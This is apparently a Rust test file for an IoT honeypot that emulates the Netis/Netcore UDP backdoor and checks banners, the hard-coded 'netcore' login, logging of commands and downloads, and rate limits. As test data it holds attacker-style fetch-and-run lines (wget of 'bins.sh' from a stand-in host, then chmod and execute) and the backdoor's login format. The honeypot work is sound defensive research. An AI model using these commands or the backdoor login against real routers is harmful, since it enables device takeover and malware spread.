//! The 53413/UDP Netis/Netcore backdoor, driven over real UDP sockets:
//! probes, the hard-coded login, commands through the shared shell
//! emulation, 18-byte scan payloads, no amplification, and a download
//! command whose sample really arrives.

mod common;
use common::*;
use std::net::UdpSocket;
use std::time::Duration;

fn ask(sock: &UdpSocket, to: std::net::SocketAddr, payload: &[u8]) -> Option<Vec<u8>> {
    sock.send_to(payload, to).unwrap();
    let mut buf = [0u8; 4096];
    match sock.recv_from(&mut buf) {
        Ok((n, _)) => Some(buf[..n].to_vec()),
        Err(_) => None,
    }
}

#[test]
fn netis_backdoor_over_udp() {
    let port = {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.local_addr().unwrap().port()
    };
    let mut hp = Honeypot::start(
        "netis",
        "router-tplink",
        &format!("[[listen]]\nservice = \"netis\"\naddress = \"127.0.0.1:{port}\"\nprofile = \"router-netis\"\n"),
    );
    let to: std::net::SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    // The 8-byte zero probe and the bare CR both get the login banner.
    let r = ask(&sock, to, &[0; 8]).expect("a reply to the probe");
    assert!(r.ends_with(b"\xD0\xA5Login:"), "{r:?}");
    let r = ask(&sock, to, b"\r").expect("a reply to CR");
    assert!(r.windows(5).any(|w| w == b"Login"));
    // Commands before the password only get the banner.
    let r = ask(&sock, to, b"AA\0\0AAAAuname -a\0").unwrap();
    assert!(r.ends_with(b"Login:"));
    // The hard-coded password opens the shell of a MIPS router.
    let r = ask(&sock, to, b"AA\0\0AAAAnetcore\0").unwrap();
    assert!(r.starts_with(b"AA\0\0AAAA"));
    let cmd = b"AA\0\0AAAAuname -m; echo ok\0".to_vec();
    let r = ask(&sock, to, &cmd).unwrap();
    let text = String::from_utf8_lossy(&r[8..]).into_owned();
    assert!(text.starts_with("mips\nok\n"), "{text:?}");
    // A long answer to a short command is cut at 3x the request.
    let short = b"AA\0\0AAAAps\0";
    let r = ask(&sock, to, short).unwrap();
    assert!(
        r.len() <= 3 * short.len(),
        "{} bytes for a {}-byte request",
        r.len(),
        short.len()
    );
    assert!(r.len() > 8, "but the answer starts");
    // A download command is recorded.
    ask(
        &sock,
        to,
        b"AA\0\0AAAAcd /tmp; wget http://198.51.100.61/bins.sh; sh bins.sh\0",
    );
    // Scanner payloads get no answer but are recorded.
    assert_eq!(ask(&sock, to, &[0x42; 18]), None);
    hp.stop();

    let db = hp.db();
    let kinds: Vec<String> = column(&db, "SELECT json_extract(data, '$.kind') FROM events WHERE eventid = 'iotpot.netis.datagram' ORDER BY id");
    assert_eq!(
        kinds,
        ["probe", "probe", "command", "login", "command", "command", "command", "scan-18"]
    );
    let count = |sql: &str| -> i64 { db.query_row(sql, [], |r| r.get(0)).unwrap() };
    assert_eq!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.login.success' AND protocol = 'netis' AND data LIKE '%netcore%'"), 1);
    assert_eq!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.command.input' AND protocol = 'netis'"), 3);
    assert_eq!(
        count("SELECT count(*) FROM events WHERE eventid = 'iotpot.download.requested' AND data LIKE '%198.51.100.61/bins.sh%'"),
        1
    );
    let max_reply: i64 = count(
        "SELECT max(json_extract(data, '$.reply_length') - max(3 * json_extract(data, '$.length'), 16)) FROM events WHERE eventid = 'iotpot.netis.datagram'",
    );
    assert!(
        max_reply <= 0,
        "a reply was larger than 3x its datagram (or 16 bytes)"
    );
}

#[test]
fn netis_wget_fetches_the_sample() {
    let www = TempDir::new("netis-www");
    let mut elf = iotpot_core::Arch::Mips.elf_header();
    elf.resize(2000, 0x41);
    std::fs::write(www.0.join("mips"), &elf).unwrap();
    let web = free_port();
    let _http = http_server(&www.0, web);
    let port = {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.local_addr().unwrap().port()
    };
    // A second router whose firmware answers the probe the other way.
    let other = {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.local_addr().unwrap().port()
    };
    let profile = www.0.join("status.toml");
    std::fs::write(
        &profile,
        "name = \"netis-status\"\ndescription = \"test\"\ndevice_type = \"Router\"\narch = \"mipsel\"\n\
         [netis]\nprobe_reply = \"status\"\n",
    )
    .unwrap();
    let mut hp = Honeypot::start(
        "netis-dl",
        "router-netis",
        &format!(
            "[[listen]]\nservice = \"netis\"\naddress = \"127.0.0.1:{port}\"\n\n\
             [[listen]]\nservice = \"netis\"\naddress = \"127.0.0.1:{other}\"\nprofile = {:?}\n\n\
             [downloader]\nallow = [\"127.0.0.1/32\"]\n",
            profile.display().to_string()
        ),
    );
    let to: std::net::SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    // The router profile's other probe answer, and the scanners' empty probe.
    let r = ask(&sock, to, &[0; 8]).unwrap();
    assert!(r.ends_with(b"\xD0\xA5Login:"), "{r:?}");
    let status: std::net::SocketAddr = format!("127.0.0.1:{other}").parse().unwrap();
    let r = ask(&sock, status, &[0; 8]).unwrap();
    assert!(
        r.ends_with(b"\x00\x00\x00\x05\x00\x01\x00\x00\x00\x00\x01\x00\x00"),
        "{r:?}"
    );
    let r = ask(&sock, to, b"").unwrap();
    assert!(r.windows(6).any(|w| w == b"Login:"), "{r:?}");
    // Any 8-byte header before the password (as vulnerability scanners send).
    let r = ask(&sock, to, b"XXXXXXXXnetcore").unwrap();
    assert!(r.windows(15).any(|w| w == b"Login successed"), "{r:?}");
    let cmd = format!(
        "AA\0\0AAAAcd /var/tmp; wget http://127.0.0.1:{web}/mips -O m; ls -l m; chmod 777 m; ./m netis\0"
    );
    let r = ask(&sock, to, cmd.as_bytes()).expect("an answer once the fetch is done");
    let text = String::from_utf8_lossy(&r[8..]).into_owned();
    assert!(text.contains("Connecting to 127.0.0.1"), "{text:?}");
    hp.stop();

    let db = hp.db();
    let sha = {
        use sha2::{Digest, Sha256};
        hex::encode(Sha256::digest(&elf))
    };
    let got = column(&db, "SELECT json_extract(data, '$.shasum') FROM events WHERE eventid = 'iotpot.download.success' AND protocol = 'netis'");
    assert_eq!(got, std::slice::from_ref(&sha));
    let stored = std::fs::read(hp.data().join("samples").join(&sha)).unwrap();
    assert_eq!(stored, elf);
    let arch = column(&db, "SELECT arch FROM samples");
    assert_eq!(arch, ["mips"]);
    let exec = column(&db, "SELECT json_extract(data, '$.shasum') FROM events WHERE eventid = 'iotpot.file.executed' AND protocol = 'netis'");
    assert_eq!(exec, [sha]);
}

/// Probes sent from `sockets` as fast as they go (`per` each), then the
/// replies that came back within half a second, counted.
fn flood(sockets: &[UdpSocket], to: std::net::SocketAddr, per: usize) -> usize {
    for _ in 0..per {
        for s in sockets {
            s.send_to(&[0; 8], to).unwrap();
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    let mut replies = 0;
    let mut buf = [0u8; 512];
    for s in sockets {
        s.set_nonblocking(true).unwrap();
        while s.recv_from(&mut buf).is_ok() {
            replies += 1;
        }
    }
    replies
}

/// The backdoor's rate limits, seen from the sources: one address gets
/// its burst (twice its rate) and no more, whatever source ports it uses,
/// while another address is answered; and all addresses together get the
/// global burst and no more. Every answered datagram is an event.
#[test]
fn netis_rate_limits_per_address_and_in_all() {
    let port = {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.local_addr().unwrap().port()
    };
    let mut hp = Honeypot::start(
        "netis-rate",
        "router-netis",
        &format!(
            "[[listen]]\nservice = \"netis\"\naddress = \"127.0.0.1:{port}\"\n\
             [limits]\ndatagrams_per_ip_per_second = 10\ndatagrams_per_second = 50\n"
        ),
    );
    let to: std::net::SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    // 100 probes from one address, over 10 source ports: a burst of 20.
    let one: Vec<UdpSocket> = (0..10)
        .map(|_| UdpSocket::bind("127.0.0.2:0").unwrap())
        .collect();
    let answered = flood(&one, to, 10);
    assert!((20..=23).contains(&answered), "{answered} of 100 answered");
    // Another address is answered meanwhile.
    let other = UdpSocket::bind("127.0.0.3:0").unwrap();
    other
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    assert!(
        ask(&other, to, &[0; 8]).is_some(),
        "another address was not answered"
    );
    // The global bucket refills (50/s, burst 100); then 30 addresses send
    // 5 each (each under its own burst): 100 are answered, not 150.
    std::thread::sleep(Duration::from_millis(2500));
    let many: Vec<UdpSocket> = (10..40)
        .map(|i| UdpSocket::bind(format!("127.0.0.{i}:0")).unwrap())
        .collect();
    let answered_all = flood(&many, to, 5);
    assert!(
        (100..=108).contains(&answered_all),
        "{answered_all} of 150 answered"
    );
    hp.stop();
    let events = column(
        &hp.db(),
        "SELECT count(*) FROM events WHERE eventid = 'iotpot.netis.datagram'",
    );
    assert_eq!(events, [(answered + 1 + answered_all).to_string()]);
}
